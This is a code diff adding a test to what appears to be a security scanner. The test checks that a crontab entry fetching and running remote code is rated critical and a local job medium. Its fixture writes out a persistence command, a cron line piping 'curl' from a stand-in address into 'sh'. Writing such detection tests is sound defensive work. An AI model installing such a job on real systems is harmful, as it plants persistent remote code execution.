@@ -327,3 +327,14 @@ def test_xss_from_a_generator_yielding_request_input_is_high_in_an_app_low_in_a_
             "    return flask.Response(generate())\n")
     assert _by_line("xss-from-request-input", "app/views.py", text) == {11: "high"}
     assert _by_line("xss-from-request-input", "tests/test_stream.py", text) == {11: "low"}
+
+
+def test_crontab_fed_a_line_that_fetches_and_runs_code_is_critical_a_local_job_medium():
+    text = ("import subprocess\n"
+            "JOB = '*/5 * * * * curl -fsS http://203.0.113.9/x | sh\\n'\n"
+            "LOCAL = '0 3 * * * /opt/app/rotate\\n'\n"
+            "def f(old):\n"
+            "    subprocess.run(['crontab', '-'], input=old + JOB, text=True)\n"
+            "    subprocess.run(['crontab', '-'], input=old + LOCAL, text=True)\n"
+            "    subprocess.run(['crontab', '-l'])\n")
+    assert _by_line("persistence-command", "cron.py", text) == {5: "critical", 6: "medium"}
